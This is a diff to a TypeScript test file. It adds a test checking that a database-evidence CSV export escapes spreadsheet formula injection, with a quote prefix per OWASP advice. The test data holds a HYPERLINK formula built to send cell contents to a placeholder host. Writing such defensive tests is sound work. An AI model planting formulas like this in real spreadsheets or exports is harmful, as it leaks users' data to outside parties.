@@ -339,6 +339,27 @@ describe('renderEvidenceHtml and the CSVs', () => {
     expect(renderDrillsCsv({ ...report(), month: 'a,"b"' }).split('\r\n')[1]).toMatch(/^"a,""b""",/);
   });
 
+  it('never writes a cell a spreadsheet runs as a formula: a tag value is data, not a command', () => {
+    // Prepare: anyone who may tag the database sets its steward:backup tag to a formula.
+    const inputs = evidenceInputs();
+    const formula = '=HYPERLINK("https://x.invalid/?d="&A1,"open")';
+    const tagged = {
+      ...inputs,
+      databases: inputs.databases.map((d) =>
+        d.id === 'legacy-db' ? { ...d, tags: { ...d.tags, 'steward:backup': formula } } : d,
+      ),
+    };
+
+    // Act
+    const line = renderDatabasesCsv(buildEvidence(tagged, evidenceConfig, EVIDENCE_NOW))
+      .split('\r\n')
+      .find((l) => l.includes('legacy-db'))!;
+
+    // Assert: the cell keeps the text, led by a quote (OWASP's CSV injection advice); on main it began with =.
+    const policy = line.split(',').slice(4).join(',');
+    expect(policy.startsWith('"\'=HYPERLINK(')).toBe(true);
+  });
+
   it('names the month of an empty estate without failing', () => {
     const html = renderEvidenceHtml(
       buildEvidence(
